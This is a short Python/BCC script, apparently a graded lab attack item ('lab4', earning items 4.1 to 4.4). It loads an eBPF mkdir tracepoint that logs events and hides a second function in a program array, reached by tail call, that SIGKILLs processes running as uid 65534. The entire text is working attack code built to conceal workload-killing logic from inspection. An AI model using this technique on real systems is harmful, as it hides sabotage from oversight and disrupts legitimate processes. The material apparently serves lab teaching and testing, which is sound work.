# attack: Keeps a program that kills the workload in a program array alone, and has it called from there.
# lab: lab4
# earns: 4.1 4.2 4.3 4.4

import ctypes
import os

from bcc import BPF

TEXT = r"""
BPF_PERF_OUTPUT(events);
BPF_PROG_ARRAY(hidden, 1);

TRACEPOINT_PROBE(syscalls, sys_enter_mkdir)
{
    u64 now = bpf_ktime_get_ns();

    events.perf_submit(args, &now, sizeof(now));
    hidden.call(args, 0);
    return 0;
}

int kills(void *ctx)
{
    if ((u32)bpf_get_current_uid_gid() == 65534)
        bpf_send_signal(9);
    return 0;
}
"""
b = BPF(text=TEXT)
kills = b.load_func("kills", BPF.TRACEPOINT)
b["hidden"][ctypes.c_int(0)] = ctypes.c_int(kills.fd)
os.close(kills.fd)
b["events"].open_perf_buffer(lambda *_: print("mkdir", flush=True))
while True:
    b.perf_buffer_poll()
